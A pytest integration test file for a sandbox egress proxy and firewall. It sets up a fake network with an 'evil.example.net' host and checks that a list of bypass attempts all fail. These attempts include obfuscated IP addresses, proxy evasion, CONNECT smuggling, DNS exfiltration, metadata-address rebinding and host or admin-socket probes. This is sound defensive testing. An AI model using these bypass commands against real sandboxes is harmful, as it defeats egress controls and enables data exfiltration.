# Copyright (c) 2026 The DockerSandboxApp authors
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The way out on a host: real clients from inside, what is denied, and what holds when egress or its wall is taken away.

In a machine of its own. Beyond it lies a small world, a network namespace that has every public address there is: its resolver, a
server of TLS and plain HTTP, and a list of all that came to it. The tests are steps of one story, in this order.
"""

from __future__ import annotations

import json
import re
import time
import typing as t
import urllib.parse

import bare
import machine
import pytest

HOME, DATA = "/opt/DockerSandboxApp", "/var/lib/dockersandbox"
START = f"{HOME}/bin/dockerd-supervised start"
TREE = f"{DATA}/originals/out"
RESOLVER, GOOD, EVIL = "45.33.32.53", "45.33.32.80", "45.33.32.66"
NAMES = {"good.example.org": [GOOD], "pinned.example.org": [GOOD], "evil.example.net": [EVIL], "rebound.example.org": ["169.254.169.254"]}
PRESET = {"packages": ["curl", "nodejs", "npm", "procps", "python3", "python3-pip", "python3-requests", "python3-venv", "restic"]}
BOX = {"name": "out", "originals": TREE, "preset": "clients", "memory": "512m", "working_set": "600m"}
SHUT = {"name": "shut", "originals": TREE, "preset": "clients", "memory": "256m", "working_set": "300m"}
GROUPS = {
    "good": [
        {"host": "good.example.org"},
        {"host": "good.example.org", "scheme": "http", "paths": ["/open"]},
        {"host": "pinned.example.org", "pins": "strict"},
        {"host": "rebound.example.org"},
    ]
}
RULES: dict[str, t.Any] = {"network_groups": GROUPS, "network_sandboxes": {"out": {"groups": ["good"]}}, "network_resolvers": [RESOLVER]}
SECONDS = 60

# Run inside, in the namespace: answers for NAMES, for every address, and notes what came in /root/arrived.
WORLD = r"""
import base64, hashlib, http.server, json, os, socket, socketserver, ssl, struct, sys, threading

NAMES, RESOLVER = json.loads(sys.argv[1]), sys.argv[2]
log = open("/root/arrived", "a", buffering=1)

class Dns(socketserver.BaseRequestHandler):
    def handle(self):
        data, made = self.request
        labels, at = [], 12
        while data[at]:
            labels.append(data[at + 1 : at + 1 + data[at]].decode())
            at += 1 + data[at]
        name, kind = ".".join(labels).lower(), struct.unpack(">H", data[at + 1 : at + 3])[0]
        log.write(f"dns {name}\n")
        found = NAMES.get(name, []) if kind == 1 else []
        code = 0 if name in NAMES else 3
        records = b"".join(b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 5, 4) + socket.inet_aton(address) for address in found)
        made.sendto(data[:2] + struct.pack(">HHHHH", 0x8180 | code, 1, len(found), 0, 0) + data[12 : at + 5] + records, self.client_address)

class Web(http.server.SimpleHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        log.write(f"http {self.connection.getsockname()[0]} {self.headers.get('Host')} {self.path}\n")
        if self.path == "/redirect":
            self.send_response(302)
            self.send_header("Location", "https://evil.example.net/stolen")
            self.send_header("Content-Length", "0")
            self.end_headers()
        elif self.headers.get("Upgrade", "").lower() == "websocket":
            key = self.headers["Sec-WebSocket-Key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
            self.send_response(101)
            self.send_header("Upgrade", "websocket")
            self.send_header("Connection", "Upgrade")
            self.send_header("Sec-WebSocket-Accept", base64.b64encode(hashlib.sha1(key.encode()).digest()).decode())
            self.end_headers()
            self.wfile.write(b"\x81\x05hello")
            self.close_connection = True
        else:
            super().do_GET()
    def log_message(self, *_):
        pass

class Server(http.server.ThreadingHTTPServer):
    def get_request(self):
        connection, address = super().get_request()
        log.write(f"tcp {connection.getsockname()[0]} {connection.getsockname()[1]}\n")
        return connection, address
    def finish_request(self, request, address):
        if self.server_address[1] == 443:
            request = tls.wrap_socket(request, server_side=True)
        super().finish_request(request, address)
    def handle_error(self, *_):
        pass

os.chdir("/root/www")
tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
tls.load_cert_chain("/root/world.crt", "/root/world.key")
threading.Thread(target=socketserver.ThreadingUDPServer((RESOLVER, 53), Dns).serve_forever, daemon=True).start()
for port in (22, 80):
    threading.Thread(target=Server(("0.0.0.0", port), Web).serve_forever, daemon=True).start()
Server(("0.0.0.0", 443), Web).serve_forever()
"""

# Run inside: what the world serves, its certificate, and a repository that any web server can serve.
LAY_OUT = f"""
[ ! -e /root/www ] || exit 0
apt-get update -qq
apt-get install -qq -y --no-install-recommends iproute2 openssl >/dev/null
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=world -keyout /root/world.key -out /root/world.crt \
  -addext subjectAltName=DNS:good.example.org,DNS:pinned.example.org,DNS:evil.example.net 2>/dev/null
mkdir -p {TREE} /root/www
cp /root/world.crt {TREE}/world.crt
cp {machine.CERTIFICATES_INSIDE} {TREE}/registries.crt 2>/dev/null || cp {machine.CERTIFICATES} {TREE}/registries.crt
echo welcome > /root/www/open
git init -q -b main /root/repository
cd /root/repository
git -c user.name=test -c user.email=test@example.org commit -q --allow-empty -m first
git clone -q --bare /root/repository /root/www/repo.git
git -C /root/www/repo.git update-server-info
"""
# Run inside, after each start of the machine: the way to the world.
WAY = """
[ ! -e /run/netns/world ] || exit 0
ip netns add world
ip link add way type veth peer name way netns world
ip address add 192.0.9.1/24 dev way
ip link set way up
ip -n world address add 192.0.9.2/24 dev way
ip -n world link set lo up
ip -n world link set way up
ip -n world route add default via 192.0.9.1
ip -n world route add local 45.33.32.0/24 dev lo
ip route add 45.33.32.0/24 via 192.0.9.2
"""


def site(host: bare.Bare, arguments: str = "", **variables: t.Any) -> bare.Done:
    """Run ``make site`` with the sandboxes of this story and *variables*."""
    declared = host.declare(BOX, SHUT)
    given = {"env_presets": {"clients": PRESET}, **RULES, **variables}
    machine.run("docker", "exec", "-i", host.name, "tee", "/root/variables.json", text=json.dumps(given))
    return host.site(f"{declared} -e @/root/variables.json {arguments}")


@pytest.fixture(scope="module")
def host(bare_machine: bare.Bare) -> bare.Bare:
    """A converged machine with the world beyond it, one sandbox with rules and one without."""
    bare_machine.make_once()
    for script in (LAY_OUT, WAY):
        laid = bare_machine.run(script, folder="/")
        assert laid.code == 0, laid.text
    machine.run("docker", "exec", "-i", bare_machine.name, "tee", "/root/world.py", text=WORLD)
    begin_world(bare_machine)
    done = site(bare_machine)
    assert done.code == 0, done.text
    return bare_machine


def begin_world(host: bare.Bare) -> None:
    """Start the servers of the world."""
    command = ["ip", "netns", "exec", "world", "python3", "/root/world.py", json.dumps(NAMES), RESOLVER]
    machine.run("docker", "exec", "--detach", host.name, *command)


def arrived(host: bare.Bare) -> list[str]:
    """Return what has come to the world since this was asked last."""
    return host.run("cat /root/arrived 2>/dev/null || true; : > /root/arrived", folder="/").text.splitlines()


def inside(host: bare.Bare, script: str, sandbox: str = "out") -> bare.Done:
    """Run a script in a sandbox, past any bundle: what it says counts."""
    machine.run("docker", "exec", "-i", host.name, "tee", "/root/script", text=script)
    return host.run(f'docker exec sandbox-{sandbox} timeout 60 bash -c "$(cat /root/script)"', folder="/")


def until(holds: t.Callable[[], bool]) -> None:
    end = time.monotonic() + SECONDS
    while not holds():
        assert time.monotonic() < end
        time.sleep(0.5)


def denials(host: bare.Bare) -> str:
    return host.sandbox("log --json --action network --decision deny --limit 500").text


CLIENTS = {
    "curl": "curl -sS --cacert world.crt https://good.example.org/open",
    "curl, plain": "curl -sS http://good.example.org/open",
    "git": "cd /tmp; rm -rf c; git -c http.sslCAInfo=/workspace/world.crt clone -q https://good.example.org/repo.git c && echo welcome",
    "urllib": "SSL_CERT_FILE=world.crt python3 -c 'import urllib.request as u; print(u.urlopen(\"https://good.example.org/open\").read().decode())'",
    "requests": "REQUESTS_CA_BUNDLE=world.crt python3 -c 'import requests; print(requests.get(\"https://good.example.org/open\").text)'",
    "WebSocket": "curl -sS --http1.1 --cacert world.crt --max-time 5 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' "
    "-H 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==' https://good.example.org/open | grep -a -o hello && echo welcome",
    "Node": "NODE_EXTRA_CA_CERTS=world.crt node -e '"
    'const h = require("http"), s = require("https");'
    'h.request({host: "127.0.0.1", port: 3128, method: "CONNECT", path: "good.example.org:443"}).on("connect", (r, socket) =>'
    ' s.get("https://good.example.org/open", {socket, agent: false}, (a) => a.pipe(process.stdout))).end()\'',
    # A program in Go, with its own TLS: it asks for a repository, and that there is none is the server's answer.
    "Go": "export SSL_CERT_FILE=world.crt; restic --no-cache --password-command true -r rest:https://good.example.org/ snapshots 2>&1 | tee /dev/stderr"
    " | grep -q 'config.*does not exist' && echo welcome",
}


@pytest.mark.parametrize("client", CLIENTS)
def test_clients_work_where_a_rule_allows(host: bare.Bare, client: str) -> None:
    arrived(host)
    done = inside(host, CLIENTS[client])
    assert "welcome" in done.text, done.text
    assert any(line.startswith(f"tcp {GOOD} ") for line in arrived(host))


ATTACKS = {
    "no rule": "curl -sS -k https://evil.example.net/",
    "an address": f"curl -sS -k https://{EVIL}/",
    "an address, otherwise written": "curl -sS -k -x http://127.0.0.1:3128 https://0x2d212042/; curl -sS http://757145666/",
    "another port": "curl -sS -k https://good.example.org:22/",
    "another path": "curl -sS http://good.example.org/other",
    "no proxy": f"curl -sS -k --noproxy '*' https://{GOOD}/open; curl -sS -k --noproxy '*' --resolve good.example.org:443:{GOOD} https://good.example.org/",
    "the client's own address": f"curl -sS -k --resolve good.example.org:443:{EVIL} --connect-to good.example.org:443:{EVIL}:443 https://evil.example.net/",
    "another name inside": "curl -sS -k --connect-to evil.example.net:443:good.example.org:443 https://evil.example.net/",
    "no name inside": "python3 -c 'import socket, ssl; s = socket.create_connection((\"127.0.0.1\", 3128)); "
    's.sendall(b"CONNECT good.example.org:443 HTTP/1.1\\r\\n\\r\\n"); s.recv(4096); '
    "c = ssl._create_unverified_context(); c.check_hostname = False; c.wrap_socket(s)'",
    "no TLS": "python3 -c 'import socket; s = socket.create_connection((\"127.0.0.1\", 3128)); "
    's.sendall(b"CONNECT good.example.org:443 HTTP/1.1\\r\\n\\r\\nGET /leak HTTP/1.0\\r\\n\\r\\n"); print(s.recv(4096), s.recv(4096))\'',
    "a metadata address by name": "curl -sS -k https://rebound.example.org/",
    "a name that is not pinned": "curl -sS -k https://pinned.example.org/",
    "DNS": "getent hosts data.evil.example.net; "
    f"python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b\"x\", (\"{RESOLVER}\", 53))'",
    "a denied name, resolved": "curl -sS -k https://data.evil.example.net/",
    "the host": "for a in 172.17.0.1 192.0.9.1 127.0.0.1; do curl -sS -k -x http://127.0.0.1:3128 https://$a:22/; done",
    "another sandbox's socket": "ls /run/guardrails/egress/.. /run/dockersandbox 2>&1; curl -sS --unix-socket /run/dockersandbox/egress/admin.sock http://x/",
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_arrives_from_what_no_rule_allows(host: bare.Bare, attack: str) -> None:
    arrived(host)
    done = inside(host, ATTACKS[attack])
    came = arrived(host)
    # Where a name is allowed and its server is reached before the client shows what it is after, the connection is bare.
    assert [line for line in came if line.startswith("http") or EVIL in line or line.endswith(" 22")] == [], done.text
    assert [line for line in came if line.startswith("dns") and "evil" in line] == []


def test_what_allowed_servers_send_elsewhere_is_denied(host: bare.Bare) -> None:
    arrived(host)
    done = inside(host, "curl -sS -L --cacert world.crt https://good.example.org/redirect")
    assert "403" in done.text
    assert not [line for line in arrived(host) if EVIL in line]
    assert "evil.example.net:443" in denials(host)


def test_a_sandbox_without_rules_reaches_nothing(host: bare.Bare) -> None:
    arrived(host)
    for client in CLIENTS.values():
        assert "welcome" not in inside(host, client, sandbox="shut").text
    assert arrived(host) == []


def module(host: bare.Bare, word: str, /, **arguments: t.Any) -> dict[str, t.Any]:
    """Run a module of the collection on the machine, as a playbook does, and return its result."""
    given = json.dumps({"home": HOME, "data": DATA, "reason": "test", **arguments})
    environment = "ANSIBLE_COLLECTIONS_PATH=.collections ANSIBLE_CALLBACK_RESULT_FORMAT=json"
    machine.run("docker", "exec", "-i", host.name, "tee", "/root/given.json", text=given)
    command = ".venv/bin/ansible localhost -c local -e ansible_python_interpreter=/usr/bin/python3"
    done = host.run(f'{environment} {command} -m dockersandbox.guardrails.{word} -a "$(cat /root/given.json)"')
    assert done.code == 0, done.text
    result, _end = json.JSONDecoder().raw_decode(done.text.partition("localhost | ")[2].partition(" => ")[2])
    return t.cast("dict[str, t.Any]", result)


def test_a_pinned_name_opens(host: bare.Bare) -> None:
    pinned = "curl -sS --cacert world.crt https://pinned.example.org/open"
    assert "403" in inside(host, pinned).text
    module(host, "dns_pin", name="pinned.example.org")
    assert "welcome" in inside(host, pinned).text
    # The gate stays closed although pins have changed.
    assert json.loads(host.sandbox("status --json").text)["ok"]
    module(host, "dns_pin", name="pinned.example.org", state="absent")
    arrived(host)
    assert "403" in inside(host, pinned).text
    assert not [line for line in arrived(host) if line.startswith(("tcp", "http"))]


def test_a_token_opens_what_no_rule_does(host: bare.Bare) -> None:
    refused = host.sandbox('service egress mint sandbox=out \'rule={"host": "evil.example.net"}\' --reason test')
    assert refused.code != 0
    assert site(host, "--tags network", network_token_ports=[443]).code == 0
    token = module(host, "egress_token", sandbox="out", rule={"host": "evil.example.net"}, seconds=600)
    client = f"curl -sS --cacert world.crt --proxy-user token:{token['secret']} https://evil.example.net/open"
    assert "welcome" in inside(host, client).text
    arrived(host)
    assert "welcome" not in inside(host, client.replace("/open", "/").replace("evil.example.net", "data.evil.example.net")).text
    assert "welcome" not in inside(host, client, sandbox="shut").text
    module(host, "egress_token", state="absent", id=token["id"])
    assert "403" in inside(host, client).text
    assert arrived(host) == []
    minted = [json.loads(line) for line in host.sandbox("log --json --action network.mint").text.splitlines()]
    assert [(event["resource"], event["reason"]) for event in minted] == [(f"token-{token['id']}/evil.example.net:443", "test")]
    assert token["secret"] not in host.run(f"cat {HOME}/observability/claude-sandbox/logs/ct.jsonl", folder="/").text
    assert site(host, "--tags network").code == 0


def test_a_changed_list_shows_and_counts_at_once(host: bare.Bare) -> None:
    more = {"network_sandboxes": {"out": {"groups": ["good"], "rules": [{"host": "evil.example.net"}]}}}
    predicted = site(host, "--tags network --check --diff", **more)
    assert predicted.code == 0, predicted.text
    assert re.search(r'^\+ +"host": "evil.example.net"$', predicted.text, re.MULTILINE), predicted.text
    assert predicted.changed == 1
    assert site(host, "--tags network", **more).changed == 1
    assert site(host, "--tags network", **more).changed == 0
    arrived(host)
    # The server's certificate is for this name too.
    assert "welcome" in inside(host, "curl -sS --cacert world.crt https://evil.example.net/open").text
    assert site(host, "--tags network").code == 0
    arrived(host)
    assert "403" in inside(host, "curl -sS --cacert world.crt https://evil.example.net/open").text
    assert not [line for line in arrived(host) if EVIL in line]


def test_rules_that_cannot_be_meant_change_nothing(host: bare.Bare) -> None:
    before = host.state()
    done = site(host, "--tags network", network_sandboxes={"out": {"rules": [{"host": "*"}]}, "gone": {}})
    assert done.code != 0
    assert "sandbox gone: has rules, and is not declared" in done.text
    assert "* stands only before a dot" in done.text
    assert bare.differences(before, host.state()) == []


def test_no_egress_no_way_out_and_the_sandbox_goes_on(host: bare.Bare) -> None:
    running = host.run("docker inspect -f '{{.State.Pid}}' sandbox-out", folder="/").text
    client = CLIENTS["curl"]
    for _time in range(5):
        arrived(host)
        host.run("kill -9 $(docker inspect -f '{{.State.Pid}}' guardrails-egress)", folder="/")
        inside(host, client)
        until(lambda: "welcome" in inside(host, client).text)
    host.run("docker stop -t 0 guardrails-egress", folder="/")
    arrived(host)
    assert "welcome" not in inside(host, client).text
    assert arrived(host) == []
    assert host.sandbox("up").code == 0
    until(lambda: "welcome" in inside(host, client).text)
    assert host.run("docker inspect -f '{{.State.Pid}}' sandbox-out", folder="/").text == running


def test_no_recorder_no_way_out(host: bare.Bare) -> None:
    host.run("docker pause guardrails-recorder", folder="/")
    try:
        arrived(host)
        assert "welcome" not in inside(host, CLIENTS["curl"]).text
        assert not [line for line in arrived(host) if line.startswith(("tcp", "http"))]
    finally:
        host.run("docker unpause guardrails-recorder", folder="/")
    until(lambda: "welcome" in inside(host, CLIENTS["curl"]).text)


def others_rules(host: bare.Bare) -> list[t.Any]:
    """Return all of the machine's packet filter but our own table."""
    listed = json.loads(host.run("nft -j -s list ruleset 2>/dev/null", folder="/").text)["nftables"]
    return [line for line in listed if not any("dockersandbox_egress" in (body.get("table"), body.get("name")) for body in line.values())]


def test_a_broken_egress_reaches_no_more_than_the_rules(host: bare.Bare) -> None:
    """From its own network, past its own code: each address is tried with the wall and, to show that it counts, without."""
    addresses = f"{GOOD}:443 {GOOD}:22 192.0.9.1:22 169.254.169.254:80"
    reach = f'for a in {addresses}; do timeout 2 bash -c "echo > /dev/tcp/${{a%:*}}/${{a#*:}}" 2>/dev/null && echo $a; done; true'
    listen = "python3 -c 'import socket, time; s = socket.create_server((\"192.0.9.1\", 22)); time.sleep(20)' &"
    script = f"{listen} sleep 1; nsenter --net -t $(docker inspect -f '{{{{.State.Pid}}}}' guardrails-egress) bash -c '{reach}'"
    machine.run("docker", "exec", "-i", host.name, "tee", "/root/reach", text=script)
    assert host.run("bash /root/reach", folder="/").text.split() == [f"{GOOD}:443"]
    # Of somebody else's table nothing changes, nor of what the engine has made.
    others = "nft add table ip somebody && nft add chain ip somebody forward '{ type filter hook forward priority 5; policy accept; }'"
    assert host.run(others, folder="/").code == 0
    assert host.run("nft delete table inet dockersandbox_egress", folder="/").code == 0
    beside = others_rules(host)
    assert "somebody" in str(beside)
    assert host.run("sleep 20; bash /root/reach", folder="/").text.split()[:3] == [f"{GOOD}:443", f"{GOOD}:22", "192.0.9.1:22"]
    assert "its wall is not there" in host.sandbox("status").text
    assert host.sandbox("up").code == 0
    assert host.run("sleep 20; bash /root/reach", folder="/").text.split() == [f"{GOOD}:443"]
    assert others_rules(host) == beside
    assert host.run("nft delete table ip somebody", folder="/").code == 0


def test_after_a_restart_of_the_engine_and_of_the_machine_the_walls_stand(host: bare.Bare) -> None:
    listing = "nft -s list table inet dockersandbox_egress"
    table = host.run(listing, folder="/").text
    assert host.run(f"{HOME}/bin/dockerd-supervised stop && {START}", folder="/").code == 0
    until(lambda: host.run("docker version", folder="/").code == 0)
    assert host.run(listing, folder="/").text == table
    machine.reboot(host.name)
    assert host.run(WAY, folder="/").code == 0
    assert host.run(START, folder="/").code == 0
    until(lambda: json.loads(host.sandbox("status --json").text or "{}").get("ok", False))
    assert host.run(listing, folder="/").text == table
    begin_world(host)
    until(lambda: "welcome" in inside(host, CLIENTS["curl"]).text)


REGISTRIES = {
    "apt": "mkdir -p /tmp/l/partial /tmp/c && apt-get update -o Dir::State::Lists=/tmp/l -o Dir::Cache=/tmp/c -o APT::Sandbox::User= 2>&1 | tail -n 2"
    " && ls /tmp/l | grep -q Packages && echo welcome",
    "pip": "python3 -m venv /workspace/v && /workspace/v/bin/pip install -q --cert /workspace/registries.crt idna && /workspace/v/bin/python -c 'import idna'"
    " && echo welcome",
    "npm": "mkdir -p /workspace/p && cd /workspace/p && npm install --no-audit --no-fund --cafile /workspace/registries.crt --cache /workspace/n left-pad"
    " && ls node_modules/left-pad/package.json && echo welcome",
    # The first that takes the proxy's address by itself.
    "fetch of Node 24": "mkdir -p /workspace/p && cd /workspace/p && bin=node-linux-$(uname -m | sed 's/x86_64/x64/;s/aarch64/arm64/')"
    " && npm install --no-audit --no-fund --cafile /workspace/registries.crt --cache /workspace/n $bin@24 && NODE_EXTRA_CA_CERTS=/workspace/registries.crt"
    " node_modules/$bin/bin/node -e 'fetch(process.argv[1]).then((a) => a.json()).then((p) => console.log(p.name === \"left-pad\" && \"welcome\"))'"
    ' "$(npm config get registry)left-pad"',
}
# Run on the machine: the address of the index that its pip asks, and the host of a file that this lists.
INDEX = r"""
import json, ssl, sys, urllib.request
from pip._internal.models.index import PyPI

request = urllib.request.Request(PyPI.simple_url + "/idna/", headers={"Accept": "application/vnd.pypi.simple.v1+json"})
with urllib.request.urlopen(request, context=ssl.create_default_context(cafile=sys.argv[1])) as answer:
    print(PyPI.simple_url, json.load(answer)["files"][0]["url"])
"""


def test_the_registries(host: bare.Bare) -> None:
    """Apt's by the machine's own settings; those that pip and npm come with by rules, as a machine without settings of theirs needs."""
    machine.run("docker", "exec", "-i", host.name, "tee", "/root/index.py", text=INDEX)
    addresses = [*host.run(f".venv/bin/python /root/index.py {TREE}/registries.crt").text.split(), inside(host, "npm config get registry").text.strip()]
    fetched = sorted({urllib.parse.urlsplit(address).hostname or "" for address in addresses})
    assert len(addresses) == 3, addresses
    rules = {"out": {"rules": [{"host": name, "allow_private": True} for name in fetched]}}
    done = site(host, "--tags network", network_registries=True, network_resolvers=[], network_sandboxes=rules)
    assert done.code == 0, done.text
    for tool, script in REGISTRIES.items():
        answer = inside(host, script)
        assert "welcome" in answer.text, f"{tool}: {answer.text}"
    # Off again, and they are not reached any more.
    assert site(host, "--tags network").code == 0
    for tool, script in REGISTRIES.items():
        assert "welcome" not in inside(host, f"rm -rf /tmp/l /workspace/v /workspace/p /workspace/n ~/.cache; {script}").text, tool
